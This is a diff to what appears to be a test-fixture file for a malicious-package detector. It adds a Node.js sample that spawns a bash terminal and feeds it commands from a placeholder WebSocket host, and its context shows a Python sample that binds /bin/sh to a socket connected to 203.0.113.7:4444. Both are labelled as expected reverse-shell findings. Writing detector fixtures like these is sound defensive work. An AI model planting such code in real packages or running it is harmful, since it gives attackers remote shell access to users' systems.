@@ -4,6 +4,13 @@ import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a function that joins a terminal with a server of the package',
+      files: imported(
+        `const pty = require('node-pty'), WebSocket = require('ws');\nexports.record = () => {\n  const link = new WebSocket('wss://a.weir.test/live');\n  const term = pty.spawn('bash', []);\n  link.on('message', (text) => term.write(text));\n};\n`,
+      ),
+      expected: [at('reverse-shell', 'high', 'index.js', 4)],
+    },
+    {
       name: 'Python: a function that joins a shell with a socket',
       files: wheel(
         'import os, pty, socket\ndef attach():\n    link = socket.socket()\n    link.connect(("203.0.113.7", 4444))\n    os.dup2(link.fileno(), 0)\n    pty.spawn("/bin/sh")\n',
